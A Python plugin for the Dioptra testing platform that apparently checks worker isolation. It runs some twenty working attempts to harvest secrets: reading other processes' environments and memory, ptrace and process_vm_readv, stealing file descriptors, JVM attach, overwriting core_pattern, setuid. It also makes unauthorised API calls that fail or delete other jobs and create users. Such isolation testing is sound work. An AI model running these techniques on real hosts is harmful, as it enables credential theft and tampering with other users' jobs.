"""A task that tries to get at the worker's secrets.

It is given them backwards, so that a search of memory does not find what the search itself holds.
"""

import ctypes
import json
import os
import signal
import socket
import stat
import struct
import time
import urllib.error
import urllib.request
from collections.abc import Callable, Iterator
from pathlib import Path

from dioptra import pyplugs

_LIBC = ctypes.CDLL(None, use_errno=True)
_PTRACE_ATTACH = 16
_PROCESS_VM_READV = 310
_PIDFD_OPEN = 434
_PIDFD_GETFD = 438
_LARGEST = 64 << 20


@pyplugs.register
def escape(secrets: str, job: str) -> str:
    wanted = [secret[::-1].encode() for secret in json.loads(secrets)]
    for name, attempt in _ATTEMPTS.items():
        found = 0
        problem = "nothing"
        try:
            for data in attempt():
                found += sum(secret in data for secret in wanted)
        except Exception as error:  # noqa: BLE001 - whatever stops it is good
            problem = type(error).__name__
        print("attempt", name + ":", f"FOUND {found}" if found else f"kept ({problem})", flush=True)
    for name, (method, path, body) in _requests(job).items():
        print("request", name + ":", _answer(method, path, body), flush=True)
    return "tried"


def _worker() -> int:
    """The process whose program is Java."""
    for entry in _processes():
        if b"java" in (entry / "cmdline").read_bytes().split(b"\0")[0]:
            return int(entry.name)
    raise LookupError("no Java here")


def _processes() -> list[Path]:
    return [entry for entry in Path("/proc").iterdir() if entry.name.isdigit()]


def _others() -> list[Path]:
    return [entry for entry in _processes() if entry.name != str(os.getpid())]


def _each(paths: Iterator[Path]) -> Iterator[bytes]:
    for path in paths:
        try:
            yield path.read_bytes()
        except OSError:
            continue


def _own_environment() -> Iterator[bytes]:
    yield repr(dict(os.environ)).encode()
    yield Path("/proc/self/environ").read_bytes()


def _environments() -> Iterator[bytes]:
    yield from _each(entry / "environ" for entry in _others())


def _environments_of_threads() -> Iterator[bytes]:
    yield from _each(file for entry in _others() for file in entry.glob("task/*/environ"))


def _parents_environment() -> Iterator[bytes]:
    yield Path(f"/proc/{os.getppid()}/environ").read_bytes()


def _memory(pid: int) -> Iterator[bytes]:
    with Path(f"/proc/{pid}/maps").open() as maps, Path(f"/proc/{pid}/mem").open("rb", 0) as memory:
        for line in maps:
            if " rw" in line:
                first, last = (int(part, 16) for part in line.split()[0].split("-"))
                memory.seek(first)
                yield memory.read(min(last - first, _LARGEST))


def _workers_memory() -> Iterator[bytes]:
    yield from _memory(_worker())


def _parents_memory() -> Iterator[bytes]:
    yield from _memory(os.getppid())


def _read_across() -> Iterator[bytes]:
    target = ctypes.create_string_buffer(4096)
    local = struct.pack("QQ", ctypes.addressof(target), 4096)
    for line in Path(f"/proc/{_worker()}/maps").read_text().splitlines():
        remote = struct.pack("QQ", int(line.split("-")[0], 16), 4096)
        if _LIBC.syscall(_PROCESS_VM_READV, _worker(), local, 1, remote, 1, 0) > 0:
            yield target.raw
    raise PermissionError


def _trace() -> Iterator[bytes]:
    if _LIBC.ptrace(_PTRACE_ATTACH, _worker(), None, None):
        raise PermissionError
    os.waitpid(_worker(), 0)
    yield from _workers_memory()


def _take_descriptors() -> Iterator[bytes]:
    process = _LIBC.syscall(_PIDFD_OPEN, _worker(), 0)
    taken = [_LIBC.syscall(_PIDFD_GETFD, process, number, 0) for number in range(256)]
    if max(taken) < 0:
        raise PermissionError
    yield from (os.read(descriptor, 4096) for descriptor in taken if descriptor >= 0)


def _open_descriptors() -> Iterator[bytes]:
    yield from _each(Path(f"/proc/{_worker()}/fd").iterdir())


def _inherited_descriptors() -> Iterator[bytes]:
    """No connection to a server, and no file of the worker."""
    for entry in Path("/proc/self/fd").iterdir():
        number = int(entry.name)
        try:
            mode = os.fstat(number).st_mode
        except OSError:
            continue
        if stat.S_ISREG(mode):
            yield entry.read_bytes()
        if stat.S_ISSOCK(mode):
            family = socket.socket(fileno=os.dup(number)).family
            if family != socket.AF_UNIX:
                raise AssertionError(f"a socket of family {family}")


def _command_lines() -> Iterator[bytes]:
    yield from _each(entry / "cmdline" for entry in _processes())


def _working_folder_of_the_worker() -> Iterator[bytes]:
    yield from _each(Path(f"/proc/{_worker()}/cwd/").iterdir())


def _files(*roots: str) -> Iterator[bytes]:
    for root in roots:
        for folder, _, names in os.walk(root):
            for name in names:
                path = Path(folder, name)
                if path.is_file() and path.stat().st_size < _LARGEST:
                    yield from _each(iter([path]))


def _files_of_the_worker() -> Iterator[bytes]:
    yield from _files("/opt/dioptra", os.environ.get("DIOPTRA_WORKDIR", "/work"), "/home")


def _temporary_files() -> Iterator[bytes]:
    yield from _files("/tmp", "/dev/shm", "/run", "/var/tmp")


def _etc() -> Iterator[bytes]:
    yield from _files("/etc", "/var/log", "/root")


def _attach() -> Iterator[bytes]:
    """As jcmd does: a file asks the JVM to listen."""
    worker = _worker()
    for folder in (f"/proc/{worker}/cwd", "/tmp"):
        try:
            Path(folder, f".attach_pid{worker}").touch()
        except OSError:
            continue
    os.kill(worker, signal.SIGQUIT)
    end = time.monotonic() + 3
    door = Path(f"/tmp/.java_pid{worker}")
    while not door.exists():
        if time.monotonic() > end:
            raise TimeoutError
        time.sleep(0.05)
    with socket.socket(socket.AF_UNIX) as talk:
        talk.connect(str(door))
        talk.sendall(b"1\0properties\0\0\0\0")
        yield talk.recv(1 << 20)
    raise AssertionError("the JVM can be attached to")


def _cores() -> Iterator[bytes]:
    os.kill(os.getppid(), 0)
    pattern = Path("/proc/sys/kernel/core_pattern").read_text()
    Path("/proc/sys/kernel/core_pattern").write_text("/tmp/core")
    yield pattern.encode()


def _log_of_the_container() -> Iterator[bytes]:
    yield from _each(iter([Path(f"/proc/{_worker()}/fd/1"), Path(f"/proc/{_worker()}/fd/2")]))


def _root_of_the_worker() -> Iterator[bytes]:
    yield from _each(iter([Path(f"/proc/{_worker()}/root/proc/self/environ")]))


def _become_root() -> Iterator[bytes]:
    os.setuid(0)
    if os.getuid() == 0 and "CapEff:\t0000000000000000" not in Path("/proc/self/status").read_text():
        raise AssertionError("this is root")
    yield from _environments()


_ATTEMPTS: dict[str, Callable[[], Iterator[bytes]]] = {
    attempt.__name__.strip("_"): attempt
    for attempt in (
        _own_environment,
        _environments,
        _environments_of_threads,
        _parents_environment,
        _workers_memory,
        _parents_memory,
        _read_across,
        _trace,
        _take_descriptors,
        _open_descriptors,
        _inherited_descriptors,
        _command_lines,
        _working_folder_of_the_worker,
        _files_of_the_worker,
        _temporary_files,
        _etc,
        _attach,
        _cores,
        _log_of_the_container,
        _root_of_the_worker,
        _become_root,
    )
}


def _requests(job: str) -> dict[str, tuple[str, str, object]]:
    """By name: method, path and body; `job` is somebody else's."""
    own = os.environ["__JOB_ID"]
    return {
        "fail another job": ("PUT", f"jobs/{job}/status", {"status": "failed"}),
        "finish itself": ("PUT", f"jobs/{own}/status", {"status": "finished"}),
        "delete another job": ("DELETE", f"jobs/{job}", None),
        "make a user": ("POST", "users/", {"username": "eve", "email": "e@e.org", "password": "e"}),
        "make a queue": ("POST", "queues/", {"name": "eve", "group": 1}),
        "measure for another job": ("POST", f"jobs/{job}/metrics", {"name": "m", "value": 1}),
        "measure": ("POST", f"jobs/{own}/metrics", {"name": "m", "value": 1}),
        "read": ("GET", "queues/", None),
    }


def _answer(method: str, path: str, body: object) -> int:
    user, password = (os.environ[f"DIOPTRA_WORKER_{part}"] for part in ("USERNAME", "PASSWORD"))
    login = json.dumps({"username": user, "password": password}).encode()
    base = os.environ["DIOPTRA_API"].rstrip("/") + "/api/v1/"
    json_type = {"Content-Type": "application/json"}
    opener = urllib.request.build_opener(urllib.request.HTTPCookieProcessor())
    opener.open(urllib.request.Request(base + "auth/login", login, json_type)).read()
    data = None if body is None else json.dumps(body).encode()
    try:
        request = urllib.request.Request(base + path, data, json_type, method=method)
        return int(opener.open(request).status)
    except urllib.error.HTTPError as refused:
        return refused.code


